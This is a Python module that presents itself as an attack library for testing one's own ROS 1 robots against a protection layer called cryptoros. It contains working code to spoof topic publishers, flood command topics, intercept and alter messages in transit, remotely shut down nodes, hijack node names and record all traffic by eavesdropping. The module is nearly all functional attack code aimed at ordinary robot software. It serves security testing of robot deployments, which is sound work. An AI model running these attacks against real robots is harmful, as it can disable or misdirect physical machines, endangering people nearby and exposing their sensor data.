"""The attack toolkit as a library: each verb is an ``async`` function returning a report.

For testing one's own robots: every verb speaks plain ROS 1 (XML-RPC to the master and
to nodes, TCPROS to publishers and subscribers), exactly as a stranger on the robots'
network or a rogue node on a robot would. Nothing here bypasses anything; behind
cryptoros interceptors the same calls are simply refused, and the report says where.

Every verb is bounded in time, never raises for a refusal (the refusal is the
observation) and returns a plain ``dict`` (JSON-ready): what it did (``sent``,
``calls``), what it observed (``read``, ``subscribers``, replies) and ``refused`` with
the error text when the graph said no.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import math
import time
from collections.abc import Callable
from typing import Any

import numpy as np

from cryptoros.ros1 import msgs
from cryptoros.ros1.node import Node, RosApiError, call

__all__ = ["build", "noise", "spoof_publish", "flood", "manipulate", "shutdown", "hijack_name", "eavesdrop", "store"]


def store() -> msgs.Typestore:
    """ROS 1 standard types plus the simulator's ``cryptoros_sim/*`` packets."""
    from cryptoros.sim import packets

    return packets.store()


def _err(exc: BaseException) -> str:
    text = str(exc) or type(exc).__name__
    return f"{type(exc).__name__}: {text}"[:300]


def _fields(st: msgs.Typestore, typename: str) -> list:
    return st.fielddefs[msgs.store_name(typename)][1]


_FLOATS = ("float32", "float64")
_INTS = {"int8": (-128, 127), "uint8": (0, 255), "int16": (-32768, 32767), "uint16": (0, 65535),
         "int32": (-(2**31), 2**31 - 1), "uint32": (0, 2**32 - 1), "int64": (-(2**63), 2**63 - 1),
         "uint64": (0, 2**64 - 1), "char": (0, 255), "byte": (-128, 127)}


def _dtype(base: str) -> Any:
    return {"float32": np.float32, "float64": np.float64, "int8": np.int8, "uint8": np.uint8, "int16": np.int16,
            "uint16": np.uint16, "int32": np.int32, "uint32": np.uint32, "int64": np.int64, "uint64": np.uint64,
            "char": np.uint8, "byte": np.int8, "bool": np.bool_}.get(base)


def _value(st: msgs.Typestore, node: tuple, spec: Any, rng: np.random.Generator | None, scale: float) -> Any:
    """A default (``rng`` None) or random value of one field description."""
    kind, desc = node
    if kind == 1:  # BASE
        base = desc[0]
        if base in _FLOATS:
            return float(rng.uniform(0, scale)) if rng is not None else 0.0
        if base in _INTS:
            lo, hi = _INTS[base]
            return int(rng.integers(max(lo, 0), min(hi, 255) + 1)) if rng is not None else 0
        if base == "bool":
            return bool(rng.integers(2)) if rng is not None else False
        if base == "string":
            return ""
        if base in ("time", "duration"):
            return _build_default(st, "builtin_interfaces/msg/Time", None, scale)
        return 0
    if kind == 2:  # NAME
        return _build_default(st, desc, rng, scale)
    if kind in (3, 4):  # ARRAY, SEQUENCE
        inner, length = desc
        n = length if kind == 3 else (int(spec) if isinstance(spec, int) else 0)
        if inner[0] == 1 and _dtype(inner[1][0]) is not None:
            dt = _dtype(inner[1][0])
            if rng is None or n == 0:
                return np.zeros(n, dtype=dt)
            if inner[1][0] in _FLOATS:
                return rng.uniform(0, scale, n).astype(dt)
            return rng.integers(0, 2 if dt is np.bool_ else 100, n).astype(dt)
        return [_value(st, inner, None, rng, scale) for _ in range(n)]
    raise ValueError(f"unsupported field kind {kind}")


def _build_default(st: msgs.Typestore, typename: str, rng: np.random.Generator | None, scale: float) -> Any:
    name = msgs.store_name(typename)
    if name == "builtin_interfaces/msg/Time":
        return st.types[name](sec=0, nanosec=0)
    values = {f: _value(st, node, None, rng, scale) for f, node in _fields(st, name)}
    return st.types[name](**values)


def build(typename: str, data: dict[str, Any] | None = None, st: msgs.Typestore | None = None) -> Any:
    """A message of ``typename``: zero/empty defaults, then the (nested) ``data`` fields."""
    st = st or store()
    msg = _build_default(st, typename, None, 1.0)
    return _apply(st, typename, msg, data or {})


def _apply(st: msgs.Typestore, typename: str, msg: Any, data: dict[str, Any]) -> Any:
    import dataclasses

    fields = dict(_fields(st, typename))
    changes = {}
    for key, value in data.items():
        if key not in fields:
            raise ValueError(f"{msgs.ros1_name(typename)} has no field {key!r}; fields: {', '.join(fields)}")
        kind, desc = fields[key]
        if kind == 2 and isinstance(value, dict):
            changes[key] = _apply(st, desc, getattr(msg, key), value)
        elif kind in (3, 4) and desc[0][0] == 1 and _dtype(desc[0][1][0]) is not None:
            changes[key] = np.asarray(value, dtype=_dtype(desc[0][1][0]))
        elif kind == 2 and desc == "builtin_interfaces/msg/Time" and isinstance(value, (int, float)):
            changes[key] = st.types[desc](sec=int(value), nanosec=int((value % 1) * 1e9))
        else:
            changes[key] = value
    return dataclasses.replace(msg, **changes)


def noise(msg: Any, typename: str, rng: np.random.Generator, st: msgs.Typestore | None = None, scale: float = 10.0,
          keep: tuple[str, ...] = ("header",)) -> Any:
    """The same message with every numeric field and numeric array replaced by random
    values (arrays keep their length; ``keep`` fields untouched): seed 001's "laser
    scan read and replaced by noise"."""
    import dataclasses

    st = st or store()
    changes = {}
    for f, (kind, desc) in _fields(st, typename):
        if f in keep:
            continue
        cur = getattr(msg, f)
        if kind == 1 and (desc[0] in _FLOATS or desc[0] in _INTS):
            changes[f] = _value(st, (kind, desc), None, rng, scale)
        elif kind == 2 and desc not in ("builtin_interfaces/msg/Time", "std_msgs/msg/Header"):
            changes[f] = noise(cur, desc, rng, st, scale, keep=())
        elif kind in (3, 4) and desc[0][0] == 1 and _dtype(desc[0][1][0]) is not None:
            changes[f] = _value(st, (kind, desc), len(cur), rng, scale)
    return dataclasses.replace(msg, **changes)


def digest(data: bytes | bytearray | memoryview) -> str:
    """Short content hash of one serialized message (how victims tell foreign messages)."""
    return hashlib.blake2b(bytes(data), digest_size=8).hexdigest()


class _Graph:
    """An attacker's node: started, torn down, every step bounded."""

    def __init__(self, name: str, master_uri: str, host: str, timeout: float) -> None:
        self.node = Node(name, master_uri, host=host, store=store(), api_timeout=timeout)
        self.timeout = timeout

    async def __aenter__(self) -> Node:
        await self.node.start()
        return self.node

    async def __aexit__(self, *exc: object) -> None:
        with contextlib.suppress(Exception):
            async with asyncio.timeout(self.timeout):
                await self.node.close()


async def _pause(duration: float, stop: asyncio.Event | None) -> None:
    """Sleep ``duration`` s, or less when ``stop`` is set."""
    if stop is None:
        await asyncio.sleep(duration)
        return
    with contextlib.suppress(TimeoutError, asyncio.TimeoutError):
        await asyncio.wait_for(stop.wait(), max(0.0, duration))


def _stopped(stop: asyncio.Event | None) -> bool:
    return stop is not None and stop.is_set()


async def _publish_loop(pub: Any, make: Callable[[int], Any], rate: float, duration: float, *, raw: bool = False,
                        stop: asyncio.Event | None = None) -> int:
    """Publish ``make(i)`` at ``rate`` per second for ``duration`` s; frames beyond the
    subscriber buffers are dropped by the node (it never blocks). Returns messages sent."""
    sent = 0
    start = time.monotonic()
    end = start + duration
    batch_period = 0.005
    while True:
        now = time.monotonic()
        if now >= end or _stopped(stop):
            break
        due = int((now - start) * rate) + 1
        while sent < due:
            m = make(sent)
            if raw:
                pub.publish_raw(m)
            else:
                pub.publish(m)
            sent += 1
        await asyncio.sleep(max(batch_period, 1.0 / rate if rate < 200 else batch_period))
    return sent


async def spoof_publish(master_uri: str, topic: str, typename: str, make: Callable[[int], Any], *, rate: float = 200.0,
                        duration: float = 10.0, name: str = "/spoofer", host: str = "127.0.0.1",
                        timeout: float = 5.0, stop: asyncio.Event | None = None) -> dict[str, Any]:
    """Advertise ``topic`` as if one were its publisher and publish ``make(i)`` at
    ``rate`` Hz: seed 001's unauthorized publishing (spoofed position at 200 Hz)."""
    rep: dict[str, Any] = {"verb": "spoof-publish", "topic": topic, "type": typename, "rate_hz": rate,
                           "master_uri": master_uri, "node": name, "sent": 0, "subscribers_max": 0}
    try:
        async with _Graph(name, master_uri, host, timeout) as node:
            try:
                pub = await node.advertise(topic, typename)
            except Exception as exc:
                rep["refused"] = f"registerPublisher: {_err(exc)}"
                return rep
            rep["registered"] = True
            peak = 0

            async def watch() -> None:
                nonlocal peak
                while True:
                    peak = max(peak, pub.num_connections)
                    await asyncio.sleep(0.05)

            w = asyncio.ensure_future(watch())
            try:
                rep["sent"] = await _publish_loop(pub, make, rate, duration, stop=stop)
            finally:
                w.cancel()
            rep["subscribers_max"] = max(peak, pub.num_connections)
            rep["dropped_by_buffer"] = pub.dropped
    except Exception as exc:
        rep["refused"] = _err(exc)
    return rep


async def flood(master_uri: str, topic: str, typename: str, make: Callable[[int], Any], *, rate: float = 2000.0,
                duration: float = 10.0, name: str = "/flooder", host: str = "127.0.0.1", timeout: float = 5.0,
                stop: asyncio.Event | None = None) -> dict[str, Any]:
    """Seed 001's denial of service: the command topic flooded (e.g. stop commands)."""
    rep = await spoof_publish(master_uri, topic, typename, make, rate=rate, duration=duration, name=name, host=host,
                              timeout=timeout, stop=stop)
    rep["verb"] = "flood"
    return rep


async def manipulate(master_uri: str, topic: str, typename: str, alter: Callable[[Any], Any | None], *,
                     out_topic: str | None = None, duration: float = 10.0, name: str = "/manipulator",
                     host: str = "127.0.0.1", timeout: float = 5.0, stop: asyncio.Event | None = None) -> dict[str, Any]:
    """Subscribe to ``topic``, pass each message read through ``alter`` and republish the
    result on ``out_topic`` (default: the same topic, next to the genuine publisher).
    The attacker's own republished messages are recognised and not altered again."""
    out_topic = out_topic or topic
    rep: dict[str, Any] = {"verb": "manipulate", "topic": topic, "out_topic": out_topic, "type": typename,
                           "master_uri": master_uri, "node": name, "read": 0, "republished": 0, "publishers_max": 0,
                           "subscribers_max": 0}
    st = store()
    mine: set[str] = set()
    try:
        async with _Graph(name, master_uri, host, timeout) as node:
            try:
                pub = await node.advertise(out_topic, typename)
            except Exception as exc:
                rep["refused"] = f"registerPublisher: {_err(exc)}"
                pub = None
            rep["sample"] = None

            def on_raw(data: bytes) -> None:
                h = digest(data)
                if h in mine:
                    return
                rep["read"] += 1
                if pub is None:
                    return
                try:
                    msg = msgs.deserialize(data, typename, st)
                except Exception:
                    return
                if rep["sample"] is None:
                    rep["sample"] = _summary(msg)
                new = alter(msg)
                if new is None:
                    return
                out = msgs.serialize(new, typename, st)
                if len(mine) > 100_000:
                    mine.clear()
                mine.add(digest(out))
                pub.publish_raw(out)
                rep["republished"] += 1

            try:
                sub = await node.subscribe(topic, typename, on_raw, raw=True)
            except Exception as exc:
                rep["refused"] = rep.get("refused") or f"registerSubscriber: {_err(exc)}"
                return rep
            end = time.monotonic() + duration
            while time.monotonic() < end and not _stopped(stop):
                rep["publishers_max"] = max(rep["publishers_max"], sub.num_connections)
                if pub is not None:
                    rep["subscribers_max"] = max(rep["subscribers_max"], pub.num_connections)
                await asyncio.sleep(0.05)
    except Exception as exc:
        rep["refused"] = rep.get("refused") or _err(exc)
    return rep


def _summary(msg: Any) -> str:
    text = repr(msg)
    return text if len(text) < 200 else text[:197] + "..."


async def shutdown(master_uri: str, node_name: str, *, reason: str = "cryptoros attack: shutdown", name: str = "/shutdowner",
                   host: str = "127.0.0.1", timeout: float = 5.0) -> dict[str, Any]:
    """Look ``node_name`` up on the master and call ``shutdown`` on its node API."""
    rep: dict[str, Any] = {"verb": "shutdown", "target": node_name, "master_uri": master_uri}
    try:
        uri = await call(master_uri, "lookupNode", name, node_name, timeout=timeout)
        rep["node_uri"] = uri
    except Exception as exc:
        rep["refused"] = f"lookupNode: {_err(exc)}"
        return rep
    rep["sent"] = True
    try:
        reply = await call(uri, "shutdown", name, reason, timeout=timeout)
        rep["reply"] = reply
        rep["accepted"] = True
    except RosApiError as exc:  # an answer: the call was refused
        rep["refused"] = f"shutdown: {_err(exc)}"
    except Exception as exc:  # no answer: e.g. the node exited while answering (rospy does)
        rep["no_reply"] = f"shutdown: {_err(exc)}"
    return rep


async def hijack_name(master_uri: str, node_name: str, *, topic: str = "/hijacked", typename: str = "std_msgs/String",
                      duration: float = 3.0, host: str = "127.0.0.1", timeout: float = 5.0,
                      stop: asyncio.Event | None = None) -> dict[str, Any]:
    """Register a node under ``node_name`` (a publisher of ``topic``): a ROS 1 master
    then calls ``shutdown`` on the node that had that name and hands its name to us."""
    rep: dict[str, Any] = {"verb": "hijack-name", "target": node_name, "master_uri": master_uri}
    try:
        before = await call(master_uri, "lookupNode", "/hijacker", node_name, timeout=timeout)
        rep["uri_before"] = before
    except Exception as exc:
        rep["lookup_before"] = _err(exc)
    try:
        async with _Graph(node_name, master_uri, host, timeout) as node:
            rep["our_uri"] = node.uri
            try:
                await node.advertise(topic, typename)
                rep["registered"] = True
            except Exception as exc:
                rep["refused"] = f"registerPublisher as {node_name}: {_err(exc)}"
                return rep
            with contextlib.suppress(Exception):
                rep["uri_after"] = await call(master_uri, "lookupNode", "/hijacker", node_name, timeout=timeout)
            rep["name_taken"] = rep.get("uri_after") == node.uri
            await _pause(duration, stop)
    except Exception as exc:
        rep["refused"] = rep.get("refused") or _err(exc)
    return rep


async def eavesdrop(master_uri: str, *, topics: list[str] | None = None, duration: float = 10.0, bag: str | None = None,
                    name: str = "/eavesdropper", host: str = "127.0.0.1", timeout: float = 5.0,
                    on_message: Callable[[str, str, bytes], None] | None = None,
                    stop: asyncio.Event | None = None) -> dict[str, Any]:
    """Ask the master what is published, subscribe to everything (or ``topics``) with any
    type, and record what can be read (a ROS 1 bag at ``bag`` when given)."""
    rep: dict[str, Any] = {"verb": "eavesdrop", "master_uri": master_uri, "topics": {}, "messages": 0, "bytes": 0}
    writer = None
    conns: dict[str, Any] = {}
    try:
        try:
            published = await call(master_uri, "getPublishedTopics", name, "", timeout=timeout)
        except Exception as exc:
            rep["refused"] = f"getPublishedTopics: {_err(exc)}"
            return rep
        types = {t: ty for t, ty in published}
        wanted = [t for t in sorted(types) if topics is None or t in topics]
        rep["graph"] = {t: types[t] for t in sorted(types)}
        if bag:
            from pathlib import Path

            from rosbags.rosbag1 import Writer

            Path(bag).unlink(missing_ok=True)
            writer = Writer(Path(bag))
            writer.open()
        async with _Graph(name, master_uri, host, timeout) as node:
            st = node.store
            subs = {}
            for topic in wanted:
                def on_raw(data: bytes, topic: str = topic) -> None:
                    rep["messages"] += 1
                    rep["bytes"] += len(data)
                    t = rep["topics"].setdefault(topic, {"type": types[topic], "messages": 0})
                    t["messages"] += 1
                    if on_message is not None:
                        on_message(topic, types[topic], data)
                    if writer is not None:
                        c = conns.get(topic)
                        if c is None:
                            c = conns[topic] = _bag_connection(writer, topic, types[topic], subs[topic], st)
                        if c is not None:
                            writer.write(c, time.time_ns(), bytes(data))

                try:
                    subs[topic] = await node.subscribe(topic, "*", on_raw)
                except Exception as exc:
                    rep["topics"][topic] = {"type": types[topic], "refused": _err(exc)}
            await _pause(duration, stop)
    except Exception as exc:
        rep["refused"] = rep.get("refused") or _err(exc)
    finally:
        if writer is not None:
            writer.close()
            rep["bag"] = bag
    return rep


def _bag_connection(writer: Any, topic: str, typename: str, sub: Any, st: msgs.Typestore) -> Any:
    header = sub.connection_headers[-1] if sub.connection_headers else {}
    try:
        return writer.add_connection(topic, header.get("type", typename), msgdef=header.get("message_definition", ""),
                                     md5sum=header.get("md5sum"), callerid=header.get("callerid"))
    except Exception:
        try:
            return writer.add_connection(topic, msgs.store_name(typename), typestore=st)
        except Exception:
            return None


def randomize(typename: str, rng: np.random.Generator, scale: float = 10.0) -> Callable[[int], Any]:
    """A factory of messages of ``typename`` with random numeric content."""
    st = store()
    base = build(typename, None, st)

    def make(_i: int) -> Any:
        return noise(base, typename, rng, st, scale)

    return make


_ = math  # kept for callers building geometric payloads
